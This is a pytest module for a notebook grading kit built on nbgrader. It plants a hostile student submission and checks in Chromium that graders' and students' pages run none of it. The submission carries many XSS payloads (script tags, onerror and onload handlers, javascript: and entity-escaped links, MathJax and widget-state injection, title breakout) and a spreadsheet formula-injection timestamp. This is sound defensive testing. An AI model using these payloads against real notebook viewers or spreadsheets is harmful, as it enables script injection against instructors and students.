"""What a student writes never runs in the browser of whoever opens their graded work.

A class of two is released and graded with the real nbgrader: an honest student (the solution,
with a written answer holding maths, a table, a link and code) and a hostile one, whose
notebook 02 carries every kind of active content below: in the written answer, in outputs, in
a raw cell, an attachment, a cell tag and the notebook's title. Then Chromium opens, as an
instructor or a student would: the hostile student's page in nbgrader's Formgrader (served by
Jupyter with the course's own nbgrader_config.py), both students' feedback, and an HTML export
of the hostile notebook (`vae-lab html`). Every attack calls
`fetch('/pwned/<kind>')` (or navigates there) when it runs: no such request may leave a page,
no active element may be in the student's cells, and the pages must still show the text.
Screenshots go to BROWSER_ARTIFACTS (default: build/test-artifacts/).
"""

from __future__ import annotations

import base64
import csv
import dataclasses
import functools
import http.server
import json
import os
import secrets
import shutil
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from tests.browsing import free_port, jupyter, launch_chromium, local_server, serve_mathjax
from tests.classroom_class import AUTOGRADED_POINTS, edit
from tests.test_classroom import classroom
from vae_lab import safe_html

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

pytestmark = pytest.mark.browser

REPO = Path(__file__).resolve().parent.parent
KIT_02 = REPO / "notebooks" / "02_vae_lab.ipynb"  # its committed outputs: figures, a model summary, maths
PWNED = "/pwned/"
SERVER_START_S = 60
SETTLE_MS = 1500  # onerror, ontoggle and a meta refresh all fire well within this after load
# nbconvert's and nbgrader's pages load MathJax 2.7.7 from this CDN; the test serves npm's copy in its place


def act(kind: str) -> str:
    """The JavaScript every attack runs: a request the test can see."""
    return f"fetch('{PWNED}{kind}')"


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# The written answer's attacks, one paragraph each.
MARKDOWN_ATTACKS = {
    "img-onerror": f'<img src="x" onerror="{act("img-onerror")}">',
    "script": f"<script>{act('script')}</script>",
    "svg-onload": f'<svg onload="{act("svg-onload")}"><circle r="5"/></svg>',
    "markdown-javascript-link": f"[the notes](javascript:{act('markdown-javascript-link')})",
    "entity-javascript-link": f"[more notes](jav&#x61;script:{act('entity-javascript-link')})",
    "html-javascript-link": f'<a href="javascript:{act("html-javascript-link")}">a link</a>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{act("iframe-srcdoc")}</script>"></iframe>',
    "ontoggle": f'<details open ontoggle="{act("ontoggle")}"><summary>x</summary></details>',
    "comment-trick": f'<!--><img src=x onerror="{act("comment-trick")}">-->',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={PWNED}meta-refresh">',
    "base-href": f'<base href="{PWNED}base-href/"><img src="pixel.png">',
    "style": "<style>body { display: none !important; }</style>",
    "object-data": f'<object data="data:text/html;base64,{_b64("<script>alert(1)</script>")}"></object>',
    "form-action": f'<form action="{PWNED}form"><button>Grade</button></form>',
    "mathjax-href": f"$\\href{{javascript:{act('mathjax-href')}}}{{x}}$",
    # MathJax 2 evaluates every script of this type in the page as its configuration
    "mathjax-config": f'<script type="text/x-mathjax-config">{act("mathjax-config")}</script>',
}
# A cell of plain-looking markdown links, no HTML: mistune unescapes `\:` and decodes entities twice,
# so they render as live javascript: links (found by an adversarial review of the first fix).
LINKS_ONLY = (
    f"See [my plot](javascript\\:{act('escaped-javascript-link')}) and "
    f"[my data](javascript&amp;#58;{act('double-entity-javascript-link')})."
)
HOSTILE_ANSWER = "The KL term pulls each code towards the prior.\n\n" + "\n\n".join(MARKDOWN_ATTACKS.values())
HONEST_ANSWER = (
    "The KL term is $\\mathrm{KL}(q\\,\\|\\,p) = \\frac{1}{2}\\sum_j (\\mu_j^2 + \\sigma_j^2 - 1 - "
    "\\log\\sigma_j^2)$, about 3 % of the loss.\n\n"
    "| epoch | KL |\n| ---: | ---: |\n| 1 | 4.2 |\n| 10 | 5.9 |\n\n"
    "See [Kingma & Welling](https://arxiv.org/abs/1312.6114) and `history['kl_loss']`.\n"
)
FORMULA_TIMESTAMP = '=HYPERLINK("http://example.invalid/?"&A1,"submitted on time")'
SVG_ONLOAD = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{act("{kind}")}"><circle r="5"/></svg>'


def _display(data: dict, metadata: dict | None = None) -> dict:
    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}


def _hostile_cells() -> list[dict]:
    """Cells the hostile student adds to notebook 02: outputs, a raw cell, an attachment, a tag."""
    outputs = [
        _display({"text/html": f'<img src=x onerror="{act("output-html")}">', "text/plain": "x"}),
        _display({"application/javascript": act("output-javascript")}),
        _display({"image/svg+xml": SVG_ONLOAD.replace("{kind}", "output-svg")}),
        _display({"text/markdown": f'<img src=x onerror="{act("output-markdown")}">'}),
        _display({"image/png": f'x"><img src=x onerror="{act("png-data")}">'}),
        _display(
            {"text/html": f'<iframe src="javascript:{act("isolated-html")}"></iframe>'},
            {"text/html": {"isolated": True}},
        ),
        _display(
            {
                "application/vnd.jupyter.widget-view+json": {
                    "model_id": "w1",
                    "version_major": 2,
                    "version_minor": 0,
                }
            }
        ),
    ]
    return [
        {
            "id": "hostile-outputs",
            "cell_type": "code",
            "metadata": {},
            "source": "show()",
            "outputs": outputs,
            "execution_count": 1,
        },
        {"id": "hostile-links", "cell_type": "markdown", "metadata": {}, "source": LINKS_ONLY},
        {
            "id": "hostile-raw",
            "cell_type": "raw",
            "metadata": {"raw_mimetype": "text/html"},
            "source": f'<img src=x onerror="{act("raw-cell")}">',
        },
        {
            "id": "hostile-attachment",
            "cell_type": "markdown",
            "metadata": {"tags": [f'x"><img src=x onerror="{act("cell-tag")}">']},
            "source": "A figure: ![diagram](attachment:diagram.svg)",
            "attachments": {
                "diagram.svg": {"image/svg+xml": _b64(SVG_ONLOAD.replace("{kind}", "attachment"))}
            },
        },
    ]


WIDGET_STATE = {
    "application/vnd.jupyter.widget-state+json": {
        "version_major": 2,
        "version_minor": 0,
        "state": {
            "w1": {
                "model_name": "HTMLModel",
                "model_module": "@jupyter-widgets/controls",
                "model_module_version": "2.0.0",
                "state": {"value": f'<img src=x onerror="{act("widget-state")}">'},
            }
        },
    }
}


def _make_hostile(notebook: Path) -> None:
    content = json.loads(notebook.read_text())
    content["cells"] += _hostile_cells()
    content["metadata"]["title"] = f"</title><script>{act('title')}</script>"
    content["metadata"]["widgets"] = WIDGET_STATE
    notebook.write_text(json.dumps(content))


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory) -> Path:
    """The released course with the honest and the hostile student graded; returns the course folder."""
    course = tmp_path_factory.mktemp("hostile-course")
    released = classroom("release", course=course)
    assert released.returncode == 0, released.stdout + released.stderr
    submissions = tmp_path_factory.mktemp("hostile-submissions")
    # The hostile student hands in as `nbgrader collect` leaves it, with a formula for a timestamp.
    for folder, answer in (("honest", HONEST_ANSWER), ("hostile/vae-lab", HOSTILE_ANSWER)):
        shutil.copytree(course / "source" / "vae-lab", submissions / folder)
        edit(submissions / folder / "02_vae_lab.ipynb", "answer_kl_share", answer)
    hostile = submissions / "hostile" / "vae-lab"
    _make_hostile(hostile / "02_vae_lab.ipynb")
    (hostile / "timestamp.txt").write_text(FORMULA_TIMESTAMP)
    result = classroom("grade", str(submissions), "--timeout", "30", "--jobs", "2", course=course)
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    for folder, notebook in (("exports", hostile / "02_vae_lab.ipynb"), ("kit", KIT_02)):
        export = subprocess.run(
            [sys.executable, "-m", "vae_lab.cli", "html", str(course / folder), str(notebook)],
            capture_output=True,
            text=True,
            timeout=300,
        )
        assert export.returncode == 0, export.stdout + export.stderr
    return course


def test_the_hostile_submission_is_flagged_and_still_scored(graded_class):
    statuses = {
        (row["student_id"], row["notebook"]): row["status"]
        for row in csv.DictReader((graded_class / "grading_status.csv").open())
    }
    assert statuses["honest", "02_vae_lab"] == "graded"
    hostile = statuses["hostile", "02_vae_lab"]
    assert hostile.startswith("flagged: active HTML in answer_kl_share ("), hostile
    for kind in (
        "<script>",
        "onerror=",
        "<svg>",
        "javascript: URL",
        "<iframe>",
        "ontoggle=",
        "<meta>",
        "<base>",
    ):
        assert kind in hostile, (kind, hostile)
    for kind in ("application/javascript", "<style>", "<form>", "<object>"):
        assert kind in hostile, (kind, hostile)
    assert hostile.endswith("; timestamp.txt ignored (not a date)"), hostile
    assert statuses["hostile", "03_generate_and_explore"] == "timestamp.txt ignored (not a date)"
    scores = {}
    for row in csv.DictReader((graded_class / "grades_by_exercise.csv").open()):
        if row["graded_by"] == "autograder":
            scores[row["student_id"]] = scores.get(row["student_id"], 0) + float(row["auto_score"])
    assert scores == {"honest": AUTOGRADED_POINTS, "hostile": AUTOGRADED_POINTS}


def test_no_cell_of_the_exported_tables_reads_as_a_formula(graded_class):
    for name in ("grades.csv", "grades_by_exercise.csv", "grading_status.csv"):
        with (graded_class / name).open(newline="") as file:
            rows = list(csv.reader(file))
        assert len(rows) > 1, name
        for value in (value for row in rows for value in row):
            if value.startswith(FORMULA_START):
                float(value)  # a number such as -1.5 is data; anything else is a formula


@pytest.fixture(scope="module")
def formgrader(playwright_api, graded_class, tmp_path_factory):
    """Jupyter with nbgrader's Formgrader, started in the course folder as the README says: (URL, token)."""
    tmp = tmp_path_factory.mktemp("formgrader")
    token, port = secrets.token_hex(24), free_port()
    env = dict(
        os.environ,
        JUPYTER_CONFIG_DIR=str(tmp / "config"),
        JUPYTER_DATA_DIR=str(tmp / "data"),
        JUPYTER_RUNTIME_DIR=str(tmp / "runtime"),
        IPYTHONDIR=str(tmp / "ipython"),
    )
    arguments = ["jupyter_server", *local_server(port, token, graded_class)]
    base = f"http://127.0.0.1:{port}"
    with jupyter(
        arguments, graded_class, env, tmp / "server.log", f"{base}/formgrader/api/status", SERVER_START_S
    ):
        yield base, token


@pytest.fixture(scope="module")
def static_server(graded_class):
    """The course folder over plain HTTP on localhost, as a course page would serve feedback and exports."""
    handler = functools.partial(QuietHandler, directory=str(graded_class))
    server = http.server.ThreadingHTTPServer(("127.0.0.1", free_port()), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


class QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def browser(playwright_api, tmp_path_factory):
    with launch_chromium(playwright_api, tmp_path_factory.mktemp("chromium")) as browser:
        yield browser


# In the student's cells (markdown and outputs), anything that can run code, load a page or restyle it,
# except what MathJax itself puts there (a <script type="math/tex"> with the TeX, MathML for screen readers).
CELLS = ".text_cell_render, .output_area, .jp-MarkdownOutput, .jp-OutputArea"
MATHJAX_OWN = ".MathJax_CHTML, .MathJax, .MJX_Assistive_MathML, .MathJax_Preview, script[type^='math/tex']"
ACTIVE_IN_CELLS_JS = """([cells, mathjax]) => {
  const roots = document.querySelectorAll(cells);
  const tags = ['script', 'iframe', 'object', 'embed', 'svg', 'form', 'style', 'meta', 'base', 'link',
                'button', 'input', 'frame', 'math', 'template'];
  const found = [];
  for (const root of roots) {
    for (const element of [root, ...root.querySelectorAll('*')]) {
      if (element.closest(mathjax)) continue;
      const tag = element.tagName.toLowerCase();
      if (tags.includes(tag)) found.push('<' + tag + '>');
      for (const name of element.getAttributeNames()) {
        if (name.startsWith('on')) found.push(tag + ' ' + name);
        const value = (element.getAttribute(name) || '').replace(/[\\s\\x00-\\x1f]/g, '');
        if (/^(javascript|vbscript):/i.test(value) || /^data:(?!image\\/(png|jpeg|gif))/i.test(value))
          found.push(tag + ' ' + name + '=' + value.slice(0, 40));
      }
    }
  }
  for (const base of document.querySelectorAll('base')) found.push('<base> in the page');
  for (const meta of document.querySelectorAll('meta[http-equiv]'))
    if (meta.getAttribute('http-equiv').toLowerCase() !== 'content-security-policy')
      found.push('<meta http-equiv=' + meta.getAttribute('http-equiv') + '>');
  return found;
}"""


# MathJax has typeset the page, or is not there (not loaded, or kept out by the page's policy).
MATHJAX_DONE_JS = """() => !window.MathJax || (MathJax.isReady && MathJax.Hub.queue.pending === 0
                                                && MathJax.Hub.queue.running === 0)"""


@dataclasses.dataclass
class Opened:
    url: str  # where the page ended up
    pwned: list[str]  # requests to /pwned/: student code that ran
    active: list[str]  # active elements in the student's cells
    text: str  # the page's visible text
    shown: bool  # the student's answer cell is on the page and visible
    typeset: int  # formulas MathJax typeset in the answer cell
    figures: list[bool]  # for each image output of the page, whether it loaded


def _open(browser, mathjax: Path, url: str, answer: str, screenshot: str | None = None) -> Opened:
    """Open `url` with MathJax served; `answer` is text of the student's answer cell (scrolled to)."""
    context = browser.new_context(viewport={"width": 1300, "height": 900})
    pwned: list[str] = []
    context.on("request", lambda request: PWNED in request.url and pwned.append(request.url))
    context.route(lambda url: not url.startswith("http://127.0.0.1:"), serve_mathjax(mathjax))
    try:
        page = context.new_page()
        page.goto(url, wait_until="load", timeout=30_000)
        page.wait_for_timeout(SETTLE_MS)
        page.wait_for_function(MATHJAX_DONE_JS, timeout=30_000)
        cell = page.locator(".text_cell_render, .jp-MarkdownOutput", has_text=answer).last
        shown = cell.count() > 0 and cell.is_visible()  # not after a redirect, or under `display: none`
        if shown:
            cell.scroll_into_view_if_needed(timeout=10_000)
        typeset = cell.locator(".MathJax_CHTML, .MathJax").count() if shown else 0
        if screenshot:
            _screenshot(page, screenshot)
        text = page.locator("body").inner_text(timeout=10_000)
        active = page.evaluate(ACTIVE_IN_CELLS_JS, [CELLS, MATHJAX_OWN])
        figures = page.locator(".jp-OutputArea-output img, .output_png img").evaluate_all(
            "images => images.map(image => image.complete && image.naturalWidth > 0)"
        )
        return Opened(page.url, sorted(set(pwned)), active, text, shown, typeset, figures)
    finally:
        context.close()


def _screenshot(page, name: str) -> None:
    folder = Path(os.environ.get("BROWSER_ARTIFACTS") or REPO / "build" / "test-artifacts")
    folder.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(folder / name))
    print(f"screenshot: {(folder / name).resolve()}")


def _submission_id(course: Path, student: str) -> str:
    from nbgrader.api import Gradebook

    with Gradebook(f"sqlite:///{course}/gradebook.db") as gradebook:
        return gradebook.find_submission_notebook("02_vae_lab", "vae-lab", student).id


HOSTILE_TEXT = "The KL term pulls each code towards the prior."
HONEST_TEXT = "about 3 % of the loss"


def _assert_hostile_page_is_inert(opened: Opened, where: str) -> None:
    assert not opened.pwned, f"student code ran in {where}: {opened.pwned}"
    assert not opened.active, f"active content in the student's cells in {where}: {opened.active}"
    assert opened.shown and HOSTILE_TEXT in opened.text, f"the answer is not there to grade on {opened.url}"
    assert (
        "Shown as text by the grader" in opened.text and "onerror=" in opened.text
    )  # ... with what was tried
    assert (
        "Aim" in opened.text and "reparameterisation trick" in opened.text
    )  # the notebook's own text renders


def test_formgrader_shows_the_hostile_answer_as_text_and_runs_none_of_it(
    browser, mathjax, formgrader, graded_class
):
    base, token = formgrader
    url = f"{base}/formgrader/submissions/{_submission_id(graded_class, 'hostile')}/?token={token}"
    opened = _open(browser, mathjax, url, HOSTILE_TEXT, "formgrader_hostile_02.png")
    _assert_hostile_page_is_inert(opened, "the instructor's Formgrader")


def test_feedback_runs_no_student_code_and_typesets_the_honest_answer(browser, mathjax, static_server):
    page = static_server + "/feedback/{}/vae-lab/02_vae_lab.html"
    _assert_hostile_page_is_inert(
        _open(browser, mathjax, page.format("hostile"), HOSTILE_TEXT), "the feedback"
    )
    honest = _open(browser, mathjax, page.format("honest"), HONEST_TEXT, "feedback_honest_02.png")
    assert honest.shown and not honest.pwned and not honest.active
    assert "Shown as text" not in honest.text
    assert honest.typeset >= 1, "MathJax typeset nothing in the answer (blocked by the page's policy?)"
    assert "\\mathrm{KL}" not in honest.text  # typeset, not left as TeX
    assert "epoch\tKL" in honest.text  # the table rendered as a table
    assert "Kingma & Welling" in honest.text and "Aim" in honest.text


def test_html_export_of_a_hostile_notebook_runs_nothing(browser, mathjax, static_server):
    opened = _open(browser, mathjax, f"{static_server}/exports/02_vae_lab.html", HOSTILE_TEXT)
    _assert_hostile_page_is_inert(opened, "the HTML export")


def test_the_kit_own_export_keeps_its_figures_and_maths_under_the_policy(browser, mathjax, static_server):
    # 02's section 7: a sentence with maths, the reconstructions figure below it
    url, cell = f"{static_server}/kit/02_vae_lab.html", "encodes each test image, takes the mean code"
    opened = _open(browser, mathjax, url, cell, "export_kit_02.png")
    assert opened.shown and not opened.pwned and not opened.active
    assert opened.typeset >= 1, "MathJax typeset nothing (blocked by the page's policy?)"
    assert 'Model: "encoder"' in opened.text  # Keras' summary, an HTML output, cleaned and shown
    committed = sum(
        "image/png" in output.get("data", {})
        for cell in json.loads(KIT_02.read_text())["cells"]
        for output in cell.get("outputs", [])
    )
    assert opened.figures == [True] * committed, f"figures that did not load: {opened.figures}"


def test_the_content_security_policy_alone_stops_inline_script(browser, mathjax, static_server, graded_class):
    """The second line of defence on its own: a page the kit writes, with the student's HTML left live."""
    live = "<html><head><title>t</title></head><body><div class='text_cell_render'><p>The answer.</p>"
    for kind in ("img-onerror", "script", "svg-onload", "iframe-srcdoc", "ontoggle", "base-href"):
        live += MARKDOWN_ATTACKS[kind]
    (graded_class / "policy.html").write_text(
        safe_html.with_content_security_policy(live + "</div></body></html>")
    )
    opened = _open(browser, mathjax, f"{static_server}/policy.html", "The answer.")
    assert not opened.pwned, f"the policy let these run: {opened.pwned}"
